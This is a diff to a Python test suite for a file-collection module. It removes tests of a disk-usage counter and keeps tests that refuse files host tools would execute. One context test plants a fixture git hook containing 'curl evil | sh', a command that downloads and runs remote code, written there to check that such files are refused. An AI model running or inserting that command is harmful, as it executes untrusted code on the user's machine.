@@ -112,14 +112,6 @@ def test_existing_file_never_overwritten(share, tmp_path):
     assert (dest / "keep.txt").read_text() == "mine"
 
 
-def test_usage_counts_blocks_and_stops_early(share):
-    for i in range(10):
-        (share / f"f{i}").write_bytes(b"y" * 5000)
-    used, files = outputs.usage(share, stop_after_files=100)
-    assert files == 10 and used >= 50000
-    assert outputs.usage(share, stop_after_files=3)[1] == 4
-
-
 def test_files_that_host_tools_would_run_are_refused_at_any_depth(share, tmp_path):
     (share / ".git" / "hooks").mkdir(parents=True)
     (share / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
@@ -168,13 +160,6 @@ def test_a_tree_beyond_the_recursion_limit_and_path_max_is_collected(share, tmp_
     assert manifest[0] == hashlib.sha256(b"3000").hexdigest() + "  " + "/".join([*names, "f"])
 
 
-def test_usage_counts_beyond_path_max(share, deep_tree):
-    deep_tree(share, 500, "u" * 50, file_every=50)  # 25,500 bytes of path
-    used, entries = outputs.usage(share, stop_after_files=10_000)
-    assert entries == 500 + 10 and used > 0
-    assert outputs.usage(share, stop_after_files=100)[1] == 101
-
-
 def test_names_of_255_bytes_are_collected(share, tmp_path):
     long = "n" * 255
     (share / long).mkdir()
@@ -189,7 +174,6 @@ def test_empty_directories_and_refused_entries_count_against_max_files(share, tm
         (share / f"empty{i}").mkdir()
     with pytest.raises(OutputError, match="more than 20 files"):
         collect(share, tmp_path / "d1", max_files=20)
-    assert outputs.usage(share, stop_after_files=20)[1] == 21  # the output watch sees them too
     for i in range(30):
         (share / f"empty{i}").rmdir()
         os.mkfifo(share / f"fifo{i}")
